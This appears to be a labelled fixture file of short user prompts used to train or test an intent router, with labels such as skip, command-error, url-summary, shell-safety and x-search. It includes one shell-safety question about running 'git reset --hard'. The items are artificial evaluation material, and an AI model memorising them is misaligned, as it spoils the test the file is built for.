skip Our company wants to hire an agency to fix our broken sales pipeline
skip The marketing pipeline is failing, how do we get more leads?
skip My test results came back from the lab, what do they mean?
skip the server at the restaurant was rude, what should I do
skip My driver crashed the car, who pays?
skip the court process failed, explain the appeal
skip our build-to-rent project is failing financially
skip my package didn't arrive, DHL says delivery failed
skip the container ship is stuck in the canal
skip node-negative breast cancer prognosis
skip python bit me, is it dangerous
skip how dangerous are shell casings
skip command of the sea history
skip safe driving course online
skip fire safety risk assessment for my office
skip check whether my terminal at the airport changed
skip what's the risk of a recession
skip Please summarise my bank statements
skip summarize all my unread mails and slack messages
skip summarize what happened in the meeting at https://zoom.us/rec/abc
skip summarize the video on https://vimeo.com/123
skip write me a summary of my career for LinkedIn
skip create an abstract for my thesis
skip highlight reel of the game
skip give me the main points of capitalism
skip page me when the build breaks
skip website designer needed
skip what does this emoji mean
skip tell me about the links between smoking and cancer
skip need a title for my article
skip extract keywords from this article https://example.com
skip extract entities from https://example.com/news
skip build a browser extension that summarizes pages
skip write code that summarizes a URL
skip how do I build a Twitter search tool
skip write code to search Twitter
skip write a Python script that checks shell commands for danger
skip develop a visibility dashboard for agents
skip search posts in our Slack
skip search Twitter employees on LinkedIn
skip find who unfollowed me on Twitter
skip how much is Twitter worth
skip buy X Premium
skip delete X account
skip x402 payment failed, refund
skip my payment to this service failed, what now
skip make my agent discoverable in the bazaar
skip I want to sell my API with x402
skip are travel agents visible on Google Maps
skip do your agents work on weekends
skip customer service agent readiness training
skip payment service provider comparison
command-error After merging main, \`deno task ok\` fails with a type error, what now
command-error the agent's shell step returned exit code 127
command-error "ModuleNotFoundError" - explain and give next command
command-error ansible run aborted, fatal: UNREACHABLE
command-error how come my docker push is denied?
command-error diagnose: make: *** No rule to make target 'all'. Stop.
command-error I can't start my dev server because something fails
command-error help me resolve a CocoaPods install failure
url-summary summarize this page for my agent: https://docs.example.com/start
url-summary tl;dr of the article at https://example.net/2026/01
url-summary give me page title and summary for the link https://example.com
url-summary what does the page https://example.com/faq say about itself, short
shell-safety Is running \`git reset --hard origin/main\` dangerous?
shell-safety assess risk of the bash command before executing
shell-safety could someone check this shell command for danger
shell-safety is this sudo command harmful
service-visibility how discoverable and payable is this service for AI agents
service-visibility show me your agent visibility and payment readiness report
x-search I want to search Twitter for people recommending note taking apps
x-search build me a clean X search URL about "prompt injection"
x-search tweets mentioning my product without links, search query please
skip my coffee machine is broken, diagnose it
skip Explain why the Roman empire fell
skip our onboarding process is broken
skip the project failed, write a post mortem
skip write a shell in Rust
skip build a Docker image for my app
skip how does npm work
skip which Linux distribution should I use
skip give me a list of common Python errors
skip teach me how to debug
skip rate my code
skip translate this Python script to Go
skip create a GitHub repo
skip what is CI/CD
skip find a good article about Rust
skip recommend a blog about cooking
skip write a page about our history
skip design a web page
skip open https://example.com
skip bookmark this page
skip who owns example.com
skip how old is this website
skip compare prices on these websites
skip read me a bedtime story
skip recap the last episode
skip summarize quarterly results from the spreadsheet
skip is this contract risky
skip is bungee jumping dangerous
skip safe deposit box
skip trust issues
skip what is the safest car
skip are there risks in using public wifi
skip shell script to back up a folder
skip how to list processes in bash
skip explain chmod
skip visible spectrum camera
skip find an insurance agent
skip how to reach customer support
skip discover hidden gems in Lisbon
skip invent an agent persona
skip write a thread about startups
skip what's trending on Twitter
skip make a Twitter header image
skip why was Twitter renamed
skip how to get verified on X
skip send my tweet to the archive
skip search for a new apartment
skip search my photos
skip find a file on my disk
skip image search
skip look for bugs in my garden
`;
